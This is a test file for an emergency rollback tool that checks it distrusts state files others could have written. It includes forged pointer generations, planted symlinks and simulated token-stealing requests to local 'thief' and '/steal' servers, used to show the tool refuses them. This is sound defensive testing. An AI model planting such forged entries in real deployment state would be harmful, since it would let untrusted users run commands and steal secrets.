/** Whose state break-glass believes, and whose changes it makes: the emergency program on states that others could have written. */
import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import type { Change } from '../../src/base/changes/change.ts';
import { groupModes } from '../../src/base/durable/durable-file.ts';
import { openStateDir } from '../../src/base/durable/state-dir.ts';
import { encodePointer } from '../../src/base/pointer/pointer-format.ts';
import { etcWith, onMachine } from '../crash/machine.ts';
import { mayMount } from '../crash/mounts.ts';
import {
  bundle,
  freshFolder,
  GREEN,
  httpServer,
  pointerOf,
  type Ran,
  REASON,
  restoreOf,
  runToEnd,
  SCOPE,
  stateWith,
} from './scene.ts';

const STRANGER = 54_321;
const GROUP = 1235;
/** `users`: it stands in /etc/group, and no account is in it there. */
const MEMBERLESS = 100;
/** `staff`: the group of /usr/local on Debian. */
const STAFF = 50;
const NAME = 'acme/production/kv-gateway';
const SURE = ['--env', 'production', '--reason', REASON, '--confirm', 'production'];

let built: string;
let folder: string;
let state: string;
let trace: string;

beforeAll(async () => {
  built = await bundle('src/break-glass/main.ts', freshFolder());
});
afterAll(() => fs.rmSync(join(built, '..'), { recursive: true, force: true }));
beforeEach(() => {
  folder = freshFolder();
  fs.chmodSync(folder, 0o755);
  state = join(folder, 'state');
  trace = join(folder, 'trace');
});
afterEach(() => fs.rmSync(folder, { recursive: true, force: true }));

const touch = (file = trace) => ['/usr/bin/touch', file];
const touching = (file = trace): Change => ({ kind: 'run', argv: touch(file), timeoutMs: 5000 });
const writing = (path = trace): Change => ({ kind: 'write-file', path, content: 'made' });
const pointerTo = (change: Change) => pointerOf({ knownGood: restoreOf(GREEN, { changes: [change] }) });
const ownState = (change = writing()) => stateWith(state, [pointerTo(change)]);
const made = () => fs.existsSync(trace);

/** A state that a group shares, as stateGroup makes it. */
function groupState(change = touching()): string {
  const dir = openStateDir(state, [...Object.values(SCOPE), 'pointer'], fs, groupModes(GROUP));
  forge(dir, 1, change);
  return dir;
}

/** What a member of the group can write: a generation with a right checksum. */
function forge(dir: string, generation: number, change: Change, uid = STRANGER): void {
  const file = join(dir, `ptr.${String(generation).padStart(12, '0')}`);
  fs.writeFileSync(file, encodePointer({ ...pointerTo(change), generation }), { mode: 0o660 });
  fs.chownSync(file, uid, fs.statSync(dir).gid);
}

function rescue(root = state, more: readonly string[] = [], etc?: string): Promise<Ran> {
  const words = [process.execPath, built, ...SURE, '--state-dir', root, ...more];
  return runToEnd(etc === undefined ? words : [...onMachine(etc), ...words], { env: { HOME: folder } });
}

describe('the owner rule', () => {
  test('a state that only root and this user can write is obeyed as it stands, also below /tmp', async () => {
    ownState();
    expect(await rescue()).toMatchObject({ stderr: expect.stringContaining('made 1 of 1') });
    expect(made()).toBe(true);
  });

  const plants: Record<string, (dir: string) => void> = {
    'a pointer folder that is a link': (dir) => {
      fs.renameSync(dir, join(folder, 'moved'));
      fs.symlinkSync(join(folder, 'moved'), dir);
    },
    'a service folder that is a link': (dir) => {
      fs.renameSync(join(dir, '..'), join(folder, 'moved'));
      fs.symlinkSync(join(folder, 'moved'), join(dir, '..'));
    },
    'a pointer folder of a stranger': (dir) => fs.chownSync(dir, STRANGER, STRANGER),
    'a state directory of a stranger': () => fs.chownSync(state, STRANGER, STRANGER),
    'a state below a folder of a stranger': () => fs.chownSync(folder, STRANGER, STRANGER),
    'a state below a folder that any user can write': () => fs.chmodSync(folder, 0o777),
    'a state below a folder that a group can write': () => {
      fs.chownSync(folder, 0, GROUP);
      fs.chmodSync(folder, 0o775);
    },
    'a pointer folder that any user can write': (dir) => fs.chmodSync(dir, 0o777),
  };
  test.each(Object.keys(plants))('break-glass believes nothing in %s', async (how) => {
    plants[how]?.(ownState());
    const { code, stderr } = await rescue();
    expect(stderr).toContain('STATE_UNSAFE');
    expect(code).toBe(3);
    expect(made()).toBe(false);
  });

  test('a state that was made with umask 002 belongs to its user alone, since only that user is in the private group', async () => {
    const trail = join(folder, 'home/trace');
    const dir = ownState(writing(trail));
    fs.mkdirSync(join(folder, 'home'));
    fs.copyFileSync(built, join(folder, 'break-glass.mjs'));
    execFileSync('chown', ['-R', '23456:23456', state, join(folder, 'home')]);
    execFileSync('chmod', ['-R', 'g+w', state]);
    const words = [
      'setpriv',
      '--reuid=23456',
      '--regid=23456',
      '--clear-groups',
      process.execPath,
      join(folder, 'break-glass.mjs'),
    ];
    const { stderr } = await runToEnd([...words, ...SURE, '--state-dir', state], { env: { HOME: join(folder, 'home') } });
    expect(stderr).toContain(`hold set in ${dir}`);
    expect(fs.existsSync(trail)).toBe(true);
  });

  test.each([
    ['a group in which no account of the files is', MEMBERLESS],
    ['the group of root, in which containers run any uid,', 0],
  ])('%s can write, so that its changes are not obeyed as they stand', async (_group, gid) => {
    const dir = openStateDir(state, [...Object.values(SCOPE), 'pointer'], fs, groupModes(gid));
    forge(dir, 1, touching(), 0);
    const { code, stderr } = await rescue();
    expect(stderr).toContain('TARGET_NOT_ALLOWED');
    expect(code).toBe(3);
    expect(made()).toBe(false);
  });

  test('a folder on the way that belongs to an unused group of the system does no harm', async () => {
    fs.chownSync(folder, 0, STAFF);
    fs.chmodSync(folder, 0o2775);
    ownState();
    await rescue();
    expect(made()).toBe(true);
  });

  test('a state whose root is a link to a folder of our own is believed', async () => {
    ownState();
    fs.symlinkSync(state, join(folder, 'linked'));
    await rescue(join(folder, 'linked'));
    expect(made()).toBe(true);
  });

  test('a sticky folder that any user can write does no harm above a state of our own', async () => {
    fs.chmodSync(folder, 0o1777);
    ownState();
    await rescue();
    expect(made()).toBe(true);
  });

  test('root refuses the state of a deploy user, and the line that it prints rolls back as that user', async () => {
    const { uid, gid } = accountOf('games');
    const trail = join(folder, 'own/trace');
    const dir = ownState(writing(trail));
    fs.copyFileSync(built, join(dir, 'break-glass.mjs'));
    fs.mkdirSync(join(folder, 'own'));
    execFileSync('chown', ['-R', `${uid}:${gid}`, state, join(folder, 'own')]);
    const { code, stderr } = await rescue(state, ['--to', GREEN.slice(0, 8)]);
    expect(code).toBe(3);
    const line = /Run it as its owner: (runuser -u games -- node .*?) {3}\(/.exec(stderr)?.[1] ?? '';
    expect(line).toContain(`runuser -u games -- node ${join(dir, 'break-glass.mjs')} --reason`);
    expect(line).toContain(` --to ${GREEN.slice(0, 8)}`);
    expect(fs.existsSync(trail)).toBe(false);
    const ran = await runToEnd(['sh', '-c', `${line} --confirm production`]);
    expect(ran.stderr).toContain('made 1 of 1');
    expect(fs.existsSync(trail)).toBe(true);
  });

  test('a stranger who plants a generation in a state of our own is not believed', async () => {
    const dir = ownState(writing(join(folder, 'right')));
    forge(dir, 2, touching());
    expect((await rescue()).stderr).toContain(
      `Damaged, not used: ${join(dir, 'ptr.000000000002')}: it belongs to user ${STRANGER}`,
    );
    expect(made()).toBe(false);
    expect(fs.existsSync(join(folder, 'right'))).toBe(true);
  });
});

describe('whose changes', () => {
  test("a group member's pointer is not obeyed by root without the machine file, and its changes are shown", async () => {
    groupState();
    const { code, stderr } = await rescue();
    expect(stderr).toMatch(/TARGET_NOT_ALLOWED {2}group 1235 could have written this pointer/);
    expect(stderr).toContain(`    /usr/bin/touch ${trace}`);
    expect(stderr).toContain(`"programs": [["/usr/bin/touch","${trace}"]]`);
    expect(code).toBe(3);
    expect(made()).toBe(false);
    expect(fs.existsSync(join(state, NAME, 'pointer/hold'))).toBe(false);
  });

  test('a program is run only by its exact argv in the machine file, also for a pointer that only root can write', async () => {
    if (!mayMount('the machine file')) return;
    ownState(touching());
    const { code, stderr } = await rescue();
    expect(stderr).toContain(`TARGET_NOT_ALLOWED  The machine file does not allow ${NAME} to touch /usr/bin/touch ${trace}.`);
    expect(code).toBe(3);
    expect(await rescue(state, [], etcWith({ programs: [['/usr/bin/touch']] }))).toMatchObject({ code: 3 });
    expect(made()).toBe(false);
    expect((await rescue(state, [], etcWith({ programs: [touch()] }))).stderr).toContain('made 1 of 1');
    expect(made()).toBe(true);
  });

  test('a rehearsal finds a program that is listed in the machine file and is not there', async () => {
    if (!mayMount('the machine file')) return;
    const argv = ['/nonexistent/reload'];
    ownState({ kind: 'run', argv, timeoutMs: 500 });
    const words = [process.execPath, built, '--env', 'production', '--state-dir', state, '--rehearse'];
    const { stderr } = await runToEnd([...onMachine(etcWith({ programs: [argv] })), ...words], { env: { HOME: folder } });
    expect(stderr).toContain('! /nonexistent/reload cannot be run');
  });

  test('the stanza that break-glass prints makes the same command work', async () => {
    if (!mayMount('the machine file')) return;
    groupState();
    const printed = /missing in \S+\n([\s\S]*?\n {2}\}\n)/.exec((await rescue()).stderr)?.[1] ?? '';
    const etc = etcWith(printed);
    expect((await rescue(state, [], etc)).stderr).toContain('made 1 of 1');
    expect(made()).toBe(true);
  });

  test('a machine file allows exact matches of this scope only', async () => {
    if (!mayMount('the machine file')) return;
    groupState();
    for (const targets of [
      { [NAME]: { programs: [['/usr/bin/touch']] } },
      { [NAME]: { programs: [[...touch(), 'more']] } },
      { 'acme/staging/kv-gateway': { programs: [touch()] } },
      { [NAME]: { files: [trace] } },
    ])
      expect(await rescue(state, [], etcWith({ targets }))).toMatchObject({ code: 3 });
    expect(made()).toBe(false);
  });

  test('the state of an account that the machine file names is believed, but needs its targets', async () => {
    if (!mayMount('the machine file')) return;
    ownState(touching());
    execFileSync('chown', ['-R', `${STRANGER}:${STRANGER}`, state]);
    const refused = await rescue(state, [], etcWith({ stateOwners: [STRANGER] }));
    expect(refused).toMatchObject({ code: 3, stderr: expect.stringContaining('TARGET_NOT_ALLOWED') });
    const allowed = etcWith({ stateOwners: [STRANGER], targets: { [NAME]: { programs: [touch()] } } });
    expect((await rescue(state, [], allowed)).stderr).toContain('made 1 of 1');
    expect(made()).toBe(true);
  });

  test('a member of the group rolls back with a machine file of their own, and no one outside the group does', async () => {
    const trail = join(folder, 'home/trace');
    groupState(touching(trail));
    fs.copyFileSync(built, join(folder, 'break-glass.mjs'));
    const file = join(folder, 'home/.config/kvdeploy/machine.json');
    fs.mkdirSync(join(file, '..'), { recursive: true });
    fs.writeFileSync(file, JSON.stringify({ targets: { [NAME]: { programs: [touch(trail)] } } }), { mode: 0o600 });
    execFileSync('chown', ['-R', '23456:23456', join(folder, 'home')]);
    const as = (groups: string) =>
      runToEnd(
        [
          ...['setpriv', '--reuid=23456', '--regid=23456', groups, process.execPath, join(folder, 'break-glass.mjs')],
          ...[...SURE, '--state-dir', state],
        ],
        { env: { HOME: join(folder, 'home') } },
      );
    expect(await as('--clear-groups')).toMatchObject({ code: 3, stderr: expect.stringContaining('NO_STATE') });
    fs.rmSync(file);
    expect(await as(`--groups=${GROUP}`)).toMatchObject({
      code: 3,
      stderr: expect.stringContaining(`or for this user alone in ${file}`),
    });
    fs.writeFileSync(file, JSON.stringify({ targets: { [NAME]: { programs: [touch(trail)] } } }), { mode: 0o600 });
    fs.chownSync(file, 23_456, 23_456);
    expect((await as(`--groups=${GROUP}`)).stderr).toContain('made 1 of 1');
    expect(fs.existsSync(trail)).toBe(true);
  });

  test('a newer generation in a copy that a group can write is named, and what is ours is used', async () => {
    const dir = ownState(writing(join(folder, 'right')));
    const copy = join(folder, 'copy');
    const copied = openStateDir(copy, [...Object.values(SCOPE), 'pointer'], fs, groupModes(GROUP));
    fs.copyFileSync(join(dir, 'ptr.000000000001'), join(copied, 'ptr.000000000001'));
    forge(copied, 2, touching());
    fs.mkdirSync(join(folder, '.local/state/kvdeploy'), { recursive: true });
    fs.writeFileSync(join(folder, '.local/state/kvdeploy/places'), `${copy}\n`);
    const { stderr } = await rescue();
    expect(stderr).toContain(`Generation 2 in ${copied} is newer and is not used: group 1235 can write there.`);
    expect(made()).toBe(false);
    expect(fs.existsSync(join(folder, 'right'))).toBe(true);
  });

  test('a newer generation in a copy of our own is used, and named', async () => {
    const dir = ownState(writing(join(folder, 'old')));
    const copied = stateWith(join(folder, 'copy'), [pointerTo(writing(join(folder, 'old'))), pointerTo(writing())]);
    fs.mkdirSync(join(folder, '.local/state/kvdeploy'), { recursive: true });
    fs.writeFileSync(join(folder, '.local/state/kvdeploy/places'), `${join(folder, 'copy')}\n`);
    const { stderr } = await rescue();
    expect(stderr).toContain(`generation 2 in ${copied} is used: it is newer than generation 1 in ${dir}, which was named`);
    expect(made()).toBe(true);
  });

  test.each([999_999_999, 999_999_999_999])('generation %i that jumps ahead is named and not used', async (generation) => {
    const dir = ownState(writing(join(folder, 'right')));
    forge(dir, generation, touching(), 0);
    const { stderr } = await rescue();
    expect(stderr).toContain(
      `ptr.${String(generation).padStart(12, '0')}: its number jumps far ahead of every other generation, so it is not used`,
    );
    expect(made()).toBe(false);
    expect(fs.existsSync(join(folder, 'right'))).toBe(true);
  });

  test('a program that only looks is run for the pointer of a group only by its exact argv in the machine file', async () => {
    if (!mayMount('the machine file')) return;
    const own = join(folder, 'looked');
    const look = (name: string) => ['/bin/sh', '-c', `echo '{"build":"abc"}'; touch ${own}-${name}`];
    const asks = { kind: 'run', json: ['build'], equals: 'abc', timeoutMs: 5000 } as const;
    const dir = groupState();
    const knownGood = restoreOf(GREEN, {
      changes: [{ kind: 'run', argv: touch(), timeoutMs: 5000 }],
      checks: [{ ...asks, argv: look('check') }],
      identity: [{ ...asks, exact: true, argv: look('identity') }],
    });
    fs.writeFileSync(join(dir, 'ptr.000000000002'), encodePointer({ ...pointerOf({ knownGood }), generation: 2 }), {
      mode: 0o660,
    });
    fs.chownSync(join(dir, 'ptr.000000000002'), STRANGER, GROUP);
    const partly = { programs: [look('check')], targets: { [NAME]: { programs: [touch()] } } };
    const refused = await rescue(state, [], etcWith(partly));
    expect(refused).toMatchObject({ code: 3, stderr: expect.stringContaining('TARGET_NOT_ALLOWED') });
    expect(fs.readdirSync(folder).filter((name) => name.startsWith('looked'))).toEqual([]);
    const ran = await rescue(state, [], etcWith({ ...partly, programs: [look('check'), look('identity')] }));
    expect(ran).toMatchObject({ code: 0, stderr: expect.stringContaining('read back: 2 of 2') });
    expect(made()).toBe(true);
  });

  test('a secret goes only to the host that the machine file names with it, when others could have written the pointer', async () => {
    if (!mayMount('the machine file')) return;
    const server = await httpServer(() => ({ status: 200 }));
    const secret = { ...pointerOf(), generation: 2 };
    const dir = groupState();
    const request = {
      kind: 'request',
      method: 'POST',
      url: `${server.url}/steal`,
      bearerSecret: 'CF_TOKEN',
      expect: [200],
      timeoutMs: 2000,
    } as const;
    fs.writeFileSync(
      join(dir, 'ptr.000000000002'),
      encodePointer({ ...secret, knownGood: restoreOf(GREEN, { changes: [request] }) }),
      { mode: 0o660 },
    );
    fs.chownSync(join(dir, 'ptr.000000000002'), STRANGER, GROUP);
    const words = [process.execPath, built, ...SURE, '--state-dir', state];
    const env = { HOME: folder, CF_TOKEN: 'very-secret' };
    const elsewhere = { [NAME]: { requests: [{ method: 'POST', url: 'https://api.example.com/steal', secret: 'CF_TOKEN' }] } };
    const unnamed = { [NAME]: { requests: [{ method: 'POST', url: request.url }] } };
    for (const targets of [elsewhere, unnamed])
      expect(await runToEnd([...onMachine(etcWith({ targets })), ...words], { env })).toMatchObject({ code: 3 });
    expect(server.requests).toEqual([]);
    const targets = { [NAME]: { requests: [{ method: 'POST', url: request.url, secret: 'CF_TOKEN' }] } };
    await runToEnd([...onMachine(etcWith({ targets })), ...words], { env });
    expect(server.requests).toMatchObject([{ headers: { authorization: 'Bearer very-secret' } }]);
    await server.close();
  });
});

describe('secrets', () => {
  test('a secret does not follow a redirect to another host, and stands in no argument list', async () => {
    const thief = await httpServer(() => ({ status: 200 }));
    const api = await httpServer(() => ({ status: 307, headers: { location: `${thief.url}/steal` } }));
    const request = {
      kind: 'request',
      method: 'POST',
      url: `${api.url}/deploy`,
      bearerSecret: 'CF_TOKEN',
      expect: [307],
      timeoutMs: 2000,
    } as const;
    stateWith(state, [pointerOf({ knownGood: restoreOf(GREEN, { changes: [request] }) })]);
    const words = [process.execPath, built, ...SURE, '--state-dir', state];
    const ran = await runToEnd(words, { env: { HOME: folder, CF_TOKEN: 'very-secret' } });
    expect(api.requests).toMatchObject([{ headers: { authorization: 'Bearer very-secret' } }]);
    expect(thief.requests).toEqual([]);
    expect(`${ran.stdout}${ran.stderr}`).not.toContain('very-secret');
    await Promise.all([thief.close(), api.close()]);
  });
});

function accountOf(name: string): { uid: number; gid: number } {
  const [uid = '', gid = ''] = execFileSync('sh', ['-c', `id -u ${name}; id -g ${name}`], { encoding: 'utf8' })
    .trim()
    .split('\n');
  return { uid: Number(uid), gid: Number(gid) };
}
